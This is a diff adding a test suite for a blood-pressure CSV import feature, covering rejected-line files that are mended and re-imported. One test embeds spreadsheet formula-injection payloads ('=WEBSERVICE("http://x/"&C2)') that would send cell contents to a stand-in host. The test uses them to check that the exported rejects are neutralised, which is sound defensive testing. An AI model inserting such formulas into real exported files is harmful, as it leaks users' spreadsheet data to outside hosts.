@@ -1,0 +1,121 @@
+import { sql } from 'drizzle-orm'
+import type { ReadingMapping } from '#contract/devices/import/mapping.ts'
+import { rowsOf } from '#server/query/rows.ts'
+import { aPlatform, type Platform } from '#support/platform.ts'
+import { anImporter, bloodPressureMapping } from '#support/readingImports.ts'
+
+const kind = 'bloodPressure'
+const device = 'AGAIN-1'
+const base: ReadingMapping = { ...bloodPressureMapping('UTC'), device: { kind: 'constant', id: device } }
+/** A mapping by the columns of date, time of day, systolic and diastolic. */
+const mappingOf = ([date, clock, sys, dia]: [string, string, string, string], headerLine = 1): ReadingMapping => ({
+  ...base,
+  format: { ...base.format, headerLine },
+  time: { kind: 'date', columns: [date, clock], order: 'ymd', zone: 'UTC' },
+  quantities: { systolic: { column: sys, unit: 'mmHg' }, diastolic: { column: dia, unit: 'mmHg' } },
+})
+
+describe('a file of rejects, mended and sent again by the same mapping', () => {
+  let platform: Platform
+  let admin: ReturnType<typeof anImporter>
+  beforeAll(async () => {
+    platform = await aPlatform({ jobs: true })
+    admin = anImporter(platform, await platform.signIn('admin'))
+    await platform.db.execute(sql`insert into device (id, name, vid) values (${device}, 'Again', 'V1001')`)
+  })
+  afterAll(() => platform.close())
+  beforeEach(() => platform.db.execute(sql`delete from reading_blood_pressure where device_id = ${device}`))
+
+  const stored = async () => {
+    const rows = await rowsOf<{ at: string; systolic: number; diastolic: number }>(
+      platform.db,
+      sql`select to_char(measured_at at time zone 'UTC', 'MM-DD HH24:MI') as at, q_systolic as systolic, q_diastolic as diastolic
+            from reading_blood_pressure where device_id = ${device} order by measured_at`,
+    )
+    return rows.map(({ at, systolic, diastolic }) => `${at} ${systolic}/${diastolic}`)
+  }
+
+  test.each([
+    ['a column without a name', 'Date,Time,BP,,HR', ['Date', 'Time', 'BP', '#4'], 1],
+    ['a name that stands twice', 'Date,Time,BP,BP,HR', ['Date', 'Time', 'BP', '#4'], 1],
+    ['names that stand twice beside those without', ',Time,,Time,HR', ['#1', 'Time', '#3', '#4'], 1],
+    ['a name that looks like a formula', 'Date,Time,=SYS,@DIA,HR', ['Date', 'Time', '=SYS', '@DIA'], 1],
+    ['names in the third line', 'Cuff\n\nDate,Time,BP,,HR', ['Date', 'Time', 'BP', '#4'], 3],
+    ['only columns by their place, in the third line', 'Cuff\n\n,,,,', ['#1', '#2', '#3', '#4'], 3],
+    ['no names at all', undefined, ['#1', '#2', '#3', '#4'], 0],
+  ] as const)('%s', async (_name, header, columns, headerLine) => {
+    const mapping = mappingOf([...columns], headerLine)
+    const lines = ['2026-01-05,08:00,120,80,60', '2026-01-06,08:00,121,x,61', '2026-01-07,08:00,y,82,62']
+    const text = [...(header === undefined ? [] : [header]), ...lines].join('\n')
+    const { report, rejects } = await admin.imported({ kind, mapping, fileId: await admin.uploaded(text) })
+    expect(report).toMatchObject({ imported: 1, rejected: 2 })
+
+    const mended = await admin.uploaded(rejects.replace(',x,', ',81,').replace(',y,', ',122,'))
+    const { data: guessed } = await admin.guess({ kind, fileId: mended, format: mapping.format })
+    expect(guessed?.columns.map(({ name }) => name)).toEqual(
+      expect.arrayContaining(['reject_reason', 'reject_line', ...columns]),
+    )
+    expect(guessed?.columns.find(({ name }) => name === columns[3])?.samples).toEqual(['81', '82'])
+    const again = await admin.imported({ kind, mapping, fileId: mended })
+    expect(again.report).toMatchObject({ imported: 2, rejected: 0 })
+    expect(await stored()).toEqual(['01-05 08:00 120/80', '01-06 08:00 121/81', '01-07 08:00 122/82'])
+  })
+
+  test('a line that cannot be divided into cells has no formula there, and is mended as the others', async () => {
+    const mapping = mappingOf(['Date', 'Time', 'SYS', 'DIA'])
+    const lines = [
+      '2026-01-05,08:00,120,80,=WEBSERVICE("http://x/"&C2)',
+      '2026-01-06,08:00,"=WEBSERVICE("http://x/"&C2)",81,',
+      '2026-01-07,08:00,122,82,"open',
+      '2026-01-08,08:00,x,83,"a,=1+1"',
+    ]
+    const fileId = await admin.uploaded(`Date,Time,SYS,DIA,Note\n${lines.join('\n')}\n`)
+    const { report, rejects } = await admin.imported({ kind, mapping, fileId })
+    expect(report).toMatchObject({ imported: 0, rejected: 4 })
+    const reason = '"a quote is opened and not closed, or stands inside a cell"'
+    expect(rejects.trimEnd().split('\r\n').slice(1)).toEqual([
+      `${reason},2,2026-01-05,08:00,120,80,"'=WEBSERVICE(""http://x/""&C2)"`,
+      `${reason},3,2026-01-06,08:00,"""=WEBSERVICE(""http://x/""&C2)""",81,`,
+      `${reason},4,2026-01-07,08:00,122,82,"""open"`,
+      '"SYS: ""x"" is not a number",5,2026-01-08,08:00,x,83,"a,=1+1"',
+    ])
+    const mended = rejects.replace(/""".*""",81/, '121,81').replace(',x,', ',123,')
+    const again = await admin.imported({ kind, mapping, fileId: await admin.uploaded(mended) })
+    expect(again.report).toMatchObject({ imported: 4, rejected: 0 })
+    expect(await stored()).toEqual([5, 6, 7, 8].map((day) => `01-0${day} 08:00 12${day - 5}/8${day - 5}`))
+  })
+
+  test('saved with semicolons or tabs, as a spreadsheet of another language does', async () => {
+    const mapping = mappingOf(['Date', 'Time', 'SYS', 'DIA'])
+    const text = 'Date,Time,SYS,DIA,HR\n2026-01-05,08:00,x,80,60\n2026-01-06,08:00,y,81,61\n'
+    const { rejects } = await admin.imported({ kind, mapping, fileId: await admin.uploaded(text) })
+    const mended = rejects.replace(',x,', ',120,').replace(',y,', ',121,')
+    for (const delimiter of [';', '\t']) {
+      const again = mended.replaceAll(',', delimiter)
+      const { report } = await admin.imported({ kind, mapping, fileId: await admin.uploaded(again) })
+      expect(report).toMatchObject(delimiter === ';' ? { imported: 2, rejected: 0 } : { present: 2, rejected: 0 })
+    }
+    expect(await stored()).toEqual(['01-05 08:00 120/80', '01-06 08:00 121/81'])
+  })
+
+  test('without the mark of their encoding, as some editors save them', async () => {
+    const gerat: ReadingMapping = {
+      ...bloodPressureMapping('UTC'),
+      format: { ...base.format, encoding: 'windows-1252' },
+      device: { kind: 'column', column: 'Gerät' },
+    }
+    const text = `at,Gerät,sys,dia\n2026-01-05 08:00,${device},x,80\n2026-01-05 09:00,KÜCHE,120,80\n`
+    const fileId = await admin.uploaded(Buffer.from(text, 'latin1'))
+    const { rejects } = await admin.imported({ kind, mapping: gerat, fileId })
+    const mended = rejects.replace('\uFEFF', '').replace(',x,', ',120,')
+    const again = await admin.imported({ kind, mapping: gerat, fileId: await admin.uploaded(mended) })
+    expect(again.report).toMatchObject({
+      imported: 1,
+      faults: [{ code: 'unknownDevice', values: { device: 'KÜCHE' } }],
+    })
+    // A spreadsheet may save them in the encoding of its own.
+    const own = Buffer.from(mended.replace(',120,', ',121,').replace('08:00', '10:00'), 'latin1')
+    const saved = await admin.imported({ kind, mapping: gerat, fileId: await admin.uploaded(own) })
+    expect(saved.report).toMatchObject({ imported: 1, rejected: 1 })
+  })
+})
